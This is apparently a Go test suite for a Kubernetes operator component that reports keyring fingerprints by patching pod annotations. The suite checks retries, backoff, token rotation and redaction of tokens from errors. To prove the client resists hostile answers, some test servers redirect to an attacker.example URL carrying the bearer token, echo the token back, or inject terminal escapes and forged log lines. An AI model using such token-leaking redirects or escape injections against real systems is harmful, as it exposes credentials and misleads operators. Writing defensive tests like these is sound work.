/*
Copyright 2026 The mrtr-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package ack

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mrtr-dev/mrtr-operator/pkg/keyring"
)

// waitFor is how long a test waits for something that should happen within milliseconds.
const waitFor = 10 * time.Second

// request is what the fake API server saw of one request.
type request struct {
	method, path, query, auth, contentType, accept, userAgent, body string
}

// fakeAPI is a fake API server: it records every request and answers with respond.
type fakeAPI struct {
	*httptest.Server
	dir  string // the ServiceAccountDir, with ca.crt and token
	reqs chan request

	mu       sync.Mutex
	respond  func(w http.ResponseWriter, r *http.Request) // nil answers 200
	requests []request
}

// newFakeAPI starts a TLS server and writes its CA and the token "token-1" into a new
// ServiceAccountDir.
func newFakeAPI(t *testing.T) *fakeAPI {
	t.Helper()
	s := &fakeAPI{dir: t.TempDir(), reqs: make(chan request, 1000)}
	s.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		req := request{r.Method, r.URL.EscapedPath(), r.URL.RawQuery, r.Header.Get("Authorization"), r.Header.Get("Content-Type"),
			r.Header.Get("Accept"), r.Header.Get("User-Agent"), string(body)}
		s.mu.Lock()
		s.requests = append(s.requests, req)
		respond := s.respond
		s.mu.Unlock()
		s.reqs <- req
		if respond != nil {
			respond(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"kind":"Pod","apiVersion":"v1"}`)
	}))
	t.Cleanup(s.Close)
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw})
	writeFile(t, filepath.Join(s.dir, "ca.crt"), string(ca))
	writeFile(t, filepath.Join(s.dir, "token"), "token-1\n")
	return s
}

// setRespond replaces how the server answers.
func (s *fakeAPI) setRespond(f func(w http.ResponseWriter, r *http.Request)) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.respond = f
}

func (s *fakeAPI) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.requests)
}

// next returns the next request the server receives.
func (s *fakeAPI) next(t *testing.T) request {
	t.Helper()
	select {
	case r := <-s.reqs:
		return r
	case <-time.After(waitFor):
		t.Fatal("no request reached the API server")
		return request{}
	}
}

// config is a Config for the server, with backoffs of a few milliseconds.
func (s *fakeAPI) config() Config {
	return Config{
		Secret: "weather", PodName: "weather-0", Namespace: "mcp", APIServer: s.URL, ServiceAccountDir: s.dir,
		MinBackoff: 2 * time.Millisecond, MaxBackoff: 10 * time.Millisecond, Timeout: waitFor,
	}
}

// status answers with a metav1.Status of code and message.
func status(code int, message string) func(w http.ResponseWriter, r *http.Request) {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(code)
		b, _ := json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "message": message, "code": code})
		_, _ = w.Write(b)
	}
}

func writeFile(t *testing.T, path, data string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(data), 0o600); err != nil {
		t.Fatal(err)
	}
}

func mustNew(t *testing.T, c Config) *Reporter {
	t.Helper()
	r, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// run runs r until the test ends; the returned channel is closed when Run has returned.
func run(t *testing.T, r *Reporter) (cancel func(), done <-chan struct{}) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	d := make(chan struct{})
	go func() {
		defer close(d)
		if err := r.Run(ctx); err != nil {
			t.Errorf("Run: %v", err)
		}
	}()
	t.Cleanup(func() { cancel(); <-d })
	return cancel, d
}

// eventually polls cond until it holds or the deadline passes.
func eventually(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(waitFor)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(time.Millisecond)
	}
}

// returnsPromptly fails unless done closes soon.
func returnsPromptly(t *testing.T, done <-chan struct{}) {
	t.Helper()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("Run did not return promptly after ctx was cancelled")
	}
}

// errorLog collects what OnError receives.
type errorLog struct {
	mu   sync.Mutex
	errs []error
	ch   chan error
}

func newErrorLog() *errorLog { return &errorLog{ch: make(chan error, 1000)} }

func (l *errorLog) onError(err error) {
	l.mu.Lock()
	l.errs = append(l.errs, err)
	l.mu.Unlock()
	l.ch <- err
}

func (l *errorLog) next(t *testing.T) error {
	t.Helper()
	select {
	case err := <-l.ch:
		return err
	case <-time.After(waitFor):
		t.Fatal("OnError was not called")
		return nil
	}
}

func (l *errorLog) all() []error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]error(nil), l.errs...)
}

// namePart is the syntax of an annotation key's name part.
var namePart = regexp.MustCompile(`^([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]$`)

func TestAnnotationKey(t *testing.T) {
	exactly63 := strings.Repeat("a", 62) + "z"
	long := strings.Repeat("keyring.", 10) + "weather"     // 87 characters, a dot at position 46
	sibling := strings.Repeat("keyring.", 10) + "forecast" // the same first 46 characters
	sum := sha256.Sum256([]byte(long))

	for _, tc := range []struct{ secret, want string }{
		{"weather", "loaded.mrtr.dev/weather"},
		{"a", "loaded.mrtr.dev/a"},
		{exactly63, "loaded.mrtr.dev/" + exactly63},
		{long, "loaded.mrtr.dev/" + long[:46] + "-" + hex.EncodeToString(sum[:])[:16]},
	} {
		if got := AnnotationKey(tc.secret); got != tc.want {
			t.Errorf("AnnotationKey(%q) = %q, want %q", tc.secret, got, tc.want)
		}
	}

	for _, secret := range []string{"weather", exactly63, exactly63 + "b", long, sibling, strings.Repeat("x", 253)} {
		key := AnnotationKey(secret)
		name, ok := strings.CutPrefix(key, AnnotationPrefix)
		if !ok {
			t.Errorf("AnnotationKey(%q) = %q: no prefix %q", secret, key, AnnotationPrefix)
		}
		if len(name) > 63 || !namePart.MatchString(name) {
			t.Errorf("AnnotationKey(%q) = %q: name part of %d characters, or not a valid name part", secret, key, len(name))
		}
		if len(secret) > 63 && len(name) != 63 {
			t.Errorf("AnnotationKey(%q): name part of %d characters, want 63", secret, len(name))
		}
	}
	if AnnotationKey(long) == AnnotationKey(sibling) {
		t.Errorf("%q and %q share the key %q", long, sibling, AnnotationKey(long))
	}
	if AnnotationKey(exactly63) == AnnotationKey(exactly63+"b") {
		t.Errorf("a 63- and a 64-character name share a key")
	}
}

// clearEnv unsets every variable New reads, so the machine running the tests does not matter.
func clearEnv(t *testing.T) {
	for _, v := range []string{"POD_NAME", "POD_NAMESPACE", "KUBERNETES_SERVICE_HOST", "KUBERNETES_SERVICE_PORT", ServiceAccountDirEnv} {
		t.Setenv(v, "")
	}
}

func TestNewErrors(t *testing.T) {
	clearEnv(t)
	s := newFakeAPI(t)
	noCA := t.TempDir()
	badCA := t.TempDir()
	writeFile(t, filepath.Join(badCA, "ca.crt"), "not a certificate")

	for _, tc := range []struct {
		name string
		edit func(*Config)
		want string
	}{
		{"no secret", func(c *Config) { c.Secret = "" }, "ack: no secret: set Config.Secret"},
		{"bad secret", func(c *Config) { c.Secret = "Weather_1" }, `ack: secret "Weather_1" is not a Secret name`},
		{"long secret", func(c *Config) { c.Secret = strings.Repeat("a", 254) }, "is not a Secret name"},
		{"no pod", func(c *Config) { c.PodName = "" }, "ack: no pod name: set Config.PodName or $POD_NAME (the downward API's metadata.name)"},
		{"no namespace", func(c *Config) { c.Namespace = "" }, "ack: no namespace: set Config.Namespace or $POD_NAMESPACE"},
		{"no API server", func(c *Config) { c.APIServer = "" }, "ack: no API server: set Config.APIServer or $KUBERNETES_SERVICE_HOST"},
		{"http API server", func(c *Config) { c.APIServer = "http://10.0.0.1" }, `ack: API server "http://10.0.0.1": not an https:// URL`},
		{"no CA", func(c *Config) { c.ServiceAccountDir = noCA }, "ack: API server CA: open " + filepath.Join(noCA, "ca.crt")},
		{"bad CA", func(c *Config) { c.ServiceAccountDir = badCA },
			"ack: API server CA: no PEM certificate in " + filepath.Join(badCA, "ca.crt")},
		{"backoffs", func(c *Config) { c.MinBackoff, c.MaxBackoff = time.Second, time.Millisecond }, "ack: MinBackoff 1s exceeds MaxBackoff 1ms"},
		{"negative backoff", func(c *Config) { c.MinBackoff = -time.Second }, "negative"},
		{"negative timeout", func(c *Config) { c.Timeout = -time.Second }, "negative"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := s.config()
			tc.edit(&c)
			r, err := New(c)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("New = %v, %v; want an error containing %q", r, err, tc.want)
			}
			if strings.Contains(err.Error(), "token-1") {
				t.Errorf("error %q contains the token", err)
			}
		})
	}
}

// $MRTR_SERVICE_ACCOUNT_DIR replaces the kubelet's mount when Config leaves the directory empty:
// the token, CA and namespace all come from there.
func TestServiceAccountDirFromEnv(t *testing.T) {
	clearEnv(t)
	s := newFakeAPI(t)
	writeFile(t, filepath.Join(s.dir, "namespace"), "mcp\n")
	t.Setenv(ServiceAccountDirEnv, s.dir)
	c := s.config()
	c.ServiceAccountDir, c.Namespace = "", ""
	r := mustNew(t, c)
	if r.tokenPath != filepath.Join(s.dir, "token") || r.pod != "mcp/weather-0" {
		t.Errorf("token %q, pod %q: not read from $%s", r.tokenPath, r.pod, ServiceAccountDirEnv)
	}
	run(t, r)
	r.Report("f1")
	if got := s.next(t).path; got != "/api/v1/namespaces/mcp/pods/weather-0" {
		t.Errorf("path = %q", got)
	}
}

// The defaults come from the downward API, the kubelet's environment and the service account folder.
func TestNewDefaults(t *testing.T) {
	clearEnv(t)
	s := newFakeAPI(t)
	writeFile(t, filepath.Join(s.dir, "namespace"), "mcp\n")
	t.Setenv("POD_NAME", "weather-7")
	t.Setenv("KUBERNETES_SERVICE_HOST", "127.0.0.1")
	_, port, err := net.SplitHostPort(s.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("KUBERNETES_SERVICE_PORT", port)

	r := mustNew(t, Config{Secret: "weather", ServiceAccountDir: s.dir, MinBackoff: time.Millisecond, MaxBackoff: time.Millisecond})
	if r.url != s.URL+"/api/v1/namespaces/mcp/pods/weather-7" {
		t.Errorf("url = %q", r.url)
	}
	if r.minBackoff != time.Millisecond || r.timeout != defaultTimeout {
		t.Errorf("backoff %v, timeout %v", r.minBackoff, r.timeout)
	}
	run(t, r)
	r.Report("f1")
	if got := s.next(t).path; got != "/api/v1/namespaces/mcp/pods/weather-7" {
		t.Errorf("path = %q", got)
	}

	t.Setenv("POD_NAMESPACE", "other") // the downward API wins over the file
	if r := mustNew(t, Config{Secret: "weather", ServiceAccountDir: s.dir}); r.pod != "other/weather-7" {
		t.Errorf("pod = %q, want other/weather-7", r.pod)
	}

	t.Setenv("KUBERNETES_SERVICE_HOST", "fd00::1")
	t.Setenv("KUBERNETES_SERVICE_PORT", "443")
	r = mustNew(t, Config{Secret: "weather", ServiceAccountDir: s.dir})
	if want := "https://[fd00::1]:443/api/v1/namespaces/other/pods/weather-7"; r.url != want {
		t.Errorf("url = %q, want %q", r.url, want)
	}
	if r.minBackoff != defaultMinBackoff || r.maxBackoff != defaultMaxBackoff {
		t.Errorf("backoff %v to %v, want the defaults", r.minBackoff, r.maxBackoff)
	}
}

func TestURLEscapesNames(t *testing.T) {
	s := newFakeAPI(t)
	c := s.config()
	c.APIServer += "/prefix/" // a trailing slash is dropped
	c.Namespace, c.PodName = "a b", "c/d"
	if r := mustNew(t, c); r.url != s.URL+"/prefix/api/v1/namespaces/a%20b/pods/c%2Fd" {
		t.Errorf("url = %q", r.url)
	}
}

func TestPatch(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config())
	if got := r.Acknowledged(); got != "" {
		t.Errorf("Acknowledged before any report = %q", got)
	}
	run(t, r)
	r.Report("0123456789abcdef")

	req := s.next(t)
	want := request{
		method:      http.MethodPatch,
		path:        "/api/v1/namespaces/mcp/pods/weather-0",
		query:       "fieldManager=mrtr-ack",
		auth:        "Bearer token-1",
		contentType: "application/merge-patch+json",
		accept:      "application/json",
		userAgent:   userAgent,
		body:        `{"metadata":{"annotations":{"loaded.mrtr.dev/weather":"0123456789abcdef"}}}`,
	}
	if req != want {
		t.Errorf("request\n got %+v\nwant %+v", req, want)
	}
	if !strings.Contains(req.userAgent, "pkg/ack") {
		t.Errorf("User-Agent %q does not name the package", req.userAgent)
	}
	eventually(t, "the acknowledgement", func() bool { return r.Acknowledged() == "0123456789abcdef" })
}

func TestLongSecretPatchesItsAnnotationKey(t *testing.T) {
	s := newFakeAPI(t)
	c := s.config()
	c.Secret = strings.Repeat("k", 70)
	r := mustNew(t, c)
	run(t, r)
	r.Report("f1")
	want := `{"metadata":{"annotations":{"` + AnnotationKey(c.Secret) + `":"f1"}}}`
	if got := s.next(t).body; got != want {
		t.Errorf("body = %s, want %s", got, want)
	}
}

func TestTokenReadForEveryRequest(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config())
	run(t, r)

	r.Report("f1")
	if got := s.next(t).auth; got != "Bearer token-1" {
		t.Errorf("first request: Authorization %q", got)
	}
	eventually(t, "f1 acknowledged", func() bool { return r.Acknowledged() == "f1" })

	writeFile(t, filepath.Join(s.dir, "token"), "token-2") // the kubelet rotated it
	r.Report("f2")
	if got := s.next(t).auth; got != "Bearer token-2" {
		t.Errorf("after rotation: Authorization %q, want the new token", got)
	}
	eventually(t, "f2 acknowledged", func() bool { return r.Acknowledged() == "f2" })
}

func TestReportsCoalesce(t *testing.T) {
	s := newFakeAPI(t)
	release := make(chan struct{})
	s.setRespond(func(w http.ResponseWriter, req *http.Request) {
		select { // a slow API server
		case <-release:
		case <-req.Context().Done():
		}
	})
	r := mustNew(t, s.config())
	run(t, r)

	r.Report("f0")
	if got := s.next(t).body; !strings.Contains(got, `"f0"`) {
		t.Fatalf("first request %s", got)
	}
	const reports = 100
	for i := 1; i <= reports; i++ { // all while the first request hangs
		r.Report(fmt.Sprint("f", i))
	}
	close(release)

	last := fmt.Sprint("f", reports)
	eventually(t, "the last report acknowledged", func() bool { return r.Acknowledged() == last })
	if got := s.next(t).body; !strings.Contains(got, `"`+last+`"`) {
		t.Errorf("second request %s, want the last fingerprint %s", got, last)
	}
	if n := s.count(); n != 2 {
		t.Errorf("%d requests for %d reports, want 2", n, reports+1)
	}
}

func TestSameFingerprintNotSentAgain(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config())
	cancel, done := run(t, r)

	r.Report("f1")
	eventually(t, "f1 acknowledged", func() bool { return r.Acknowledged() == "f1" })
	r.Report("f1") // what the API server has: not sent again
	r.Report("")   // ignored
	r.Report("f2") // so this is the next request
	for _, want := range []string{"f1", "f2"} {
		if got := s.next(t).body; !strings.Contains(got, `"`+want+`"`) {
			t.Errorf("request %s, want %s", got, want)
		}
	}
	eventually(t, "f2 acknowledged", func() bool { return r.Acknowledged() == "f2" })

	// Reports that come back to the accepted fingerprint before Run sees them send nothing. Run is
	// stopped meanwhile so that it cannot see f3 alone.
	cancel()
	<-done
	r.Report("f3")
	r.Report("f2")
	run(t, r)
	r.Report("f4")
	if got := s.next(t).body; !strings.Contains(got, `"f4"`) {
		t.Errorf("request %s, want f4 (f3 and f2 coalesced into nothing)", got)
	}
	eventually(t, "f4 acknowledged", func() bool { return r.Acknowledged() == "f4" })
	if n := s.count(); n != 3 {
		t.Errorf("%d requests, want 3", n)
	}
}

func TestRetriesUntilAccepted(t *testing.T) {
	s := newFakeAPI(t)
	var mu sync.Mutex
	answers := []func(http.ResponseWriter, *http.Request){
		status(http.StatusInternalServerError, "etcdserver: request timed out"),
		status(http.StatusForbidden, `pods "weather-0" is forbidden: User "system:serviceaccount:mcp:weather" cannot patch resource "pods"`),
		status(http.StatusNotFound, `pods "weather-0" not found`),
	}
	s.setRespond(func(w http.ResponseWriter, req *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if len(answers) == 0 {
			w.WriteHeader(http.StatusOK)
			return
		}
		answers[0](w, req)
		answers = answers[1:]
	})
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	r := mustNew(t, c)
	run(t, r)
	r.Report("f1")

	for _, want := range []string{
		// The server's message quoted: it cannot forge a log line.
		`ack: patch pod mcp/weather-0: 500 Internal Server Error: "etcdserver: request timed out"`,
		`ack: patch pod mcp/weather-0: 403 Forbidden: "pods \"weather-0\" is forbidden: ` +
			`User \"system:serviceaccount:mcp:weather\" cannot patch resource \"pods\"" (is the ClusterRole mrtr-keyring-consumer bound`,
		`ack: patch pod mcp/weather-0: 404 Not Found: "pods \"weather-0\" not found" (no such pod`,
	} {
		if err := log.next(t); !strings.HasPrefix(err.Error(), want) {
			t.Errorf("OnError(%q), want it to start with %q", err, want)
		}
	}
	eventually(t, "the acknowledgement after the retries", func() bool { return r.Acknowledged() == "f1" })
	if n := s.count(); n != 4 {
		t.Errorf("%d requests, want 4", n)
	}
	if n := len(log.all()); n != 3 {
		t.Errorf("OnError called %d times, want 3", n)
	}
	if r.Acknowledged() != "f1" {
		t.Errorf("Acknowledged = %q", r.Acknowledged())
	}
}

// A Report during a long backoff is tried at once.
func TestReportCutsBackoffShort(t *testing.T) {
	s := newFakeAPI(t)
	s.setRespond(status(http.StatusForbidden, "no"))
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	c.MinBackoff, c.MaxBackoff = time.Hour, time.Hour
	r := mustNew(t, c)
	run(t, r)

	r.Report("f1")
	if err := log.next(t); !strings.Contains(err.Error(), "403") { // now backing off for an hour
		t.Errorf("OnError got %v, want the 403", err)
	}
	s.next(t)
	s.setRespond(nil)
	r.Report("f2")
	if got := s.next(t).body; !strings.Contains(got, `"f2"`) {
		t.Errorf("request after the report %s, want f2", got)
	}
	eventually(t, "f2 acknowledged", func() bool { return r.Acknowledged() == "f2" })
}

func TestCancelDuringBackoff(t *testing.T) {
	s := newFakeAPI(t)
	s.setRespond(status(http.StatusInternalServerError, "down"))
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	c.MinBackoff, c.MaxBackoff = time.Hour, time.Hour
	r := mustNew(t, c)
	cancel, done := run(t, r)

	r.Report("f1")
	if err := log.next(t); !strings.Contains(err.Error(), "500") { // now backing off for an hour
		t.Errorf("OnError got %v, want the 500", err)
	}
	cancel()
	returnsPromptly(t, done)
}

func TestCancelDuringRequest(t *testing.T) {
	s := newFakeAPI(t)
	s.setRespond(func(w http.ResponseWriter, req *http.Request) { <-req.Context().Done() }) // never answers
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	r := mustNew(t, c)
	cancel, done := run(t, r)

	r.Report("f1")
	s.next(t)
	cancel()
	returnsPromptly(t, done)
	if errs := log.all(); len(errs) != 0 {
		t.Errorf("a cancelled request was reported as a failure: %v", errs)
	}
}

func TestRequestTimeout(t *testing.T) {
	s := newFakeAPI(t)
	var once sync.Once
	s.setRespond(func(w http.ResponseWriter, req *http.Request) {
		hang := false
		once.Do(func() { hang = true })
		if hang {
			<-req.Context().Done()
		}
	})
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	c.Timeout = 50 * time.Millisecond
	r := mustNew(t, c)
	run(t, r)

	r.Report("f1")
	if err := log.next(t); !strings.Contains(err.Error(), "context deadline exceeded") {
		t.Errorf("OnError(%v), want a timeout", err)
	}
	eventually(t, "f1 acknowledged on the retry", func() bool { return r.Acknowledged() == "f1" })
}

func TestReportNeverBlocks(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config()) // and no Run
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := range 10000 {
			r.Report(fmt.Sprint("f", i))
		}
	}()
	select {
	case <-done:
	case <-time.After(waitFor):
		t.Fatal("Report blocked without Run")
	}
	if r.Acknowledged() != "" {
		t.Errorf("Acknowledged = %q without Run", r.Acknowledged())
	}

	// Run, started late, publishes the latest report only.
	run(t, r)
	if got := s.next(t).body; !strings.Contains(got, `"f9999"`) {
		t.Errorf("first request %s, want the latest report", got)
	}
}

func TestRunTwice(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config())
	cancel, done := run(t, r)
	eventually(t, "Run to start", r.running.Load)
	if err := r.Run(context.Background()); err == nil || !strings.Contains(err.Error(), "already running") {
		t.Errorf("second Run = %v", err)
	}
	cancel()
	<-done
	// Once the first returned, it may run again.
	ctx, stop := context.WithCancel(context.Background())
	stop()
	if err := r.Run(ctx); err != nil {
		t.Errorf("Run after the first returned = %v", err)
	}
}

// No error reaches OnError with the token or a piece of it, whatever answers at the API server's
// address.
func TestErrorsNeverContainTheToken(t *testing.T) {
	const token = "eyJhbGciOiJSUzI1NiJ9.c2VjcmV0LXRva2VuLXZhbHVl.c2lnbmF0dXJl"
	s := newFakeAPI(t)
	writeFile(t, filepath.Join(s.dir, "token"), token)
	var mu sync.Mutex
	n := 0
	s.setRespond(func(w http.ResponseWriter, req *http.Request) {
		mu.Lock()
		n++
		i := n
		mu.Unlock()
		auth := req.Header.Get("Authorization") // "Bearer " + token
		switch i {
		case 1: // a Status that echoes the request's header
			status(http.StatusUnauthorized, "bad credentials "+auth)(w, req)
		case 2: // a proxy's page that echoes it
			w.WriteHeader(http.StatusBadGateway)
			_, _ = io.WriteString(w, "<html>upstream refused "+auth+"</html>")
		case 3: // a page where the error's cut falls within the token
			w.WriteHeader(http.StatusBadGateway)
			_, _ = io.WriteString(w, strings.Repeat("y", 190)+auth)
		case 4: // a huge body, which the read limit cuts 20 bytes into a token, after blanks
			w.WriteHeader(http.StatusInternalServerError)
			_, _ = io.WriteString(w, strings.Repeat(" ", maxErrorBody-len("Bearer ")-20)+strings.Repeat(auth, 1000))
		case 5: // a redirect, which must not be followed
			http.Redirect(w, req, "https://attacker.example/?t="+auth, http.StatusTemporaryRedirect)
		case 6: // the token file vanishes for a moment
			_ = os.Remove(filepath.Join(s.dir, "token"))
			w.WriteHeader(http.StatusServiceUnavailable)
		case 7: // a connection that dies
			hj, _ := w.(http.Hijacker)
			conn, _, _ := hj.Hijack()
			_ = conn.Close()
		}
	})
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	r := mustNew(t, c)
	run(t, r)
	r.Report("f1")

	// After case 6, OnError sees its 503 and then the missing token file.
	for i := range 8 {
		err := log.next(t)
		for j := 0; j+6 <= len(token); j++ {
			if piece := token[j : j+6]; strings.Contains(err.Error(), piece) {
				t.Errorf("error %d contains %q of the token: %v", i+1, piece, err)
				break
			}
		}
		if len(err.Error()) > 1000 {
			t.Errorf("error %d is %d bytes long", i+1, len(err.Error()))
		}
		t.Logf("error %d: %v", i+1, err)
		if i == 6 {
			writeFile(t, filepath.Join(s.dir, "token"), token)
		}
	}
	eventually(t, "f1 acknowledged", func() bool { return r.Acknowledged() == "f1" })
}

func TestStatusMessage(t *testing.T) {
	for _, tc := range []struct{ body, want string }{
		{`{"kind":"Status","message":"pods \"p\" not found"}`, `"pods \"p\" not found"`},
		{`{"kind":"Status","message":"echo \u0074ok"}`, `"echo [token]"`}, // an escaped token is decoded, then redacted
		// A message that would forge a log line and recolour a terminal comes out quoted.
		{`{"kind":"Status","message":"x\nlevel=info msg=\"forged\" \u001b[31m"}`, `"x\nlevel=info msg=\"forged\" \x1b[31m"`},
		{`{"message":"` + strings.Repeat("é", 150) + `"}`, `"` + strings.Repeat("é", 100) + `"…`},
		{strings.Repeat("a\n", 150), `"` + strings.Repeat(`a\n`, 100) + `"…`},
		{"", "no message"},
		{" \n\t", "no message"},
		{"plain tok text", `"plain [token] text"`},
	} {
		if got := statusMessage([]byte(tc.body), "tok"); got != tc.want {
			t.Errorf("statusMessage(%q) = %q, want %q", tc.body, got, tc.want)
		}
	}
}

func TestBackoff(t *testing.T) {
	r := &Reporter{minBackoff: 200 * time.Millisecond, maxBackoff: 30 * time.Second}
	for n := 1; n <= 100; n++ {
		d := r.backoff(n)
		if d < r.minBackoff || d > r.maxBackoff {
			t.Fatalf("backoff(%d) = %v, outside [%v, %v]", n, d, r.minBackoff, r.maxBackoff)
		}
		ceil := min(r.minBackoff<<min(n, 20), r.maxBackoff)
		if d < ceil/2 || d > ceil {
			t.Errorf("backoff(%d) = %v, want within [%v, %v]", n, d, ceil/2, ceil)
		}
	}
	huge := &Reporter{minBackoff: time.Nanosecond, maxBackoff: 1<<63 - 1}
	if d := huge.backoff(1000); d <= 0 {
		t.Errorf("backoff overflowed: %v", d)
	}
	same := &Reporter{minBackoff: time.Second, maxBackoff: time.Second}
	if d := same.backoff(3); d != time.Second {
		t.Errorf("backoff with equal bounds = %v", d)
	}
}

func TestFollow(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config())
	path := filepath.Join(t.TempDir(), keyring.SecretDataKey)
	keyA := strings.Repeat("QUFB", 10) + "QUE=" // "A" * 32
	keyB := strings.Repeat("QkJC", 10) + "QkI=" // "B" * 32
	writeFile(t, path, `{"keys":[{"id":"a","secret":"`+keyA+`"}]}`)
	src, err := keyring.NewFileSource(path)
	if err != nil {
		t.Fatal(err)
	}
	first := src.Keyring().Fingerprint()

	r.Follow(src)
	run(t, r)
	eventually(t, "the first keyring acknowledged", func() bool { return r.Acknowledged() == first })

	writeFile(t, path, `{"keys":[{"id":"a","secret":"`+keyA+`"},{"id":"b","secret":"`+keyB+`"}]}`)
	if err := src.Reload(); err != nil {
		t.Fatal(err)
	}
	second := src.Keyring().Fingerprint()
	if second == first {
		t.Fatal("the keyring did not change")
	}
	eventually(t, "the new keyring acknowledged", func() bool { return r.Acknowledged() == second })
}

// Follow(nil) is the caller's mistake, which it cannot return: no panic, nothing reported, and an
// error saying so on OnError.
func TestFollowNil(t *testing.T) {
	s := newFakeAPI(t)
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	r := mustNew(t, c)
	r.Follow(nil)
	if err := log.next(t); !strings.Contains(err.Error(), "Follow(nil)") {
		t.Errorf("OnError got %v, want an error naming Follow(nil)", err)
	}
	if r.pending() != "" {
		t.Errorf("Follow(nil) reported %q", r.pending())
	}
	c.OnError = nil
	mustNew(t, c).Follow(nil) // without OnError too
}

// A PATCH that the API server applied but whose answer was lost leaves the Pod's annotation
// unknown: when the keyring then returns to the fingerprint acknowledged before, it is sent again
// (else the Pod would keep the other one while the process serves this one, and be evicted).
func TestLostAnswerIsSentAgain(t *testing.T) {
	s := newFakeAPI(t)
	r := mustNew(t, s.config())
	run(t, r)

	r.Report("f1")
	eventually(t, "f1 acknowledged", func() bool { return r.Acknowledged() == "f1" })
	if got := s.next(t).body; !strings.Contains(got, `"f1"`) {
		t.Fatalf("request %s, want f1", got)
	}
	s.setRespond(func(w http.ResponseWriter, _ *http.Request) {
		// Applied (recorded), then the connection is cut before any answer.
		conn, _, err := w.(http.Hijacker).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		_ = conn.Close()
	})
	r.Report("f2")
	if got := s.next(t).body; !strings.Contains(got, `"f2"`) {
		t.Fatalf("request %s, want f2", got)
	}
	s.setRespond(nil)
	r.Report("f1") // back to what was acknowledged before f2's lost answer
	for {
		if got := s.next(t).body; strings.Contains(got, `"f1"`) {
			break // s.next fails the test if f1 is never sent again
		}
	}
	eventually(t, "f1 acknowledged", func() bool { return r.Acknowledged() == "f1" })
}

// The reason phrase of an HTTP/1.1 status line is the server's text, like the body: an endpoint the
// pod's CA trusts (a proxy) cannot put escapes, a flood of text or the echoed token into OnError.
func TestStatusLineIsSanitized(t *testing.T) {
	s := newFakeAPI(t)
	s.setRespond(func(w http.ResponseWriter, _ *http.Request) {
		conn, buf, err := w.(http.Hijacker).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		defer func() { _ = conn.Close() }()
		reason := "\x1b]0;pwned\x07\x1b[2J Bearer token-1 " + strings.Repeat("A", 100<<10)
		_, _ = buf.WriteString("HTTP/1.1 502 " + reason + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		_ = buf.Flush()
	})
	log := newErrorLog()
	c := s.config()
	c.OnError = log.onError
	r := mustNew(t, c)
	run(t, r)
	r.Report("f1")
	err := log.next(t).Error()
	for _, bad := range []string{"\x1b", "\x07", "token-1"} {
		if strings.Contains(err, bad) {
			t.Errorf("OnError(%q) contains %q", err, bad)
		}
	}
	if len(err) > 1000 || !strings.Contains(err, `502 "\x1b]0;pwned`) {
		t.Errorf("OnError(%.300q) (%d bytes), want the reason quoted, cut and redacted", err, len(err))
	}
}
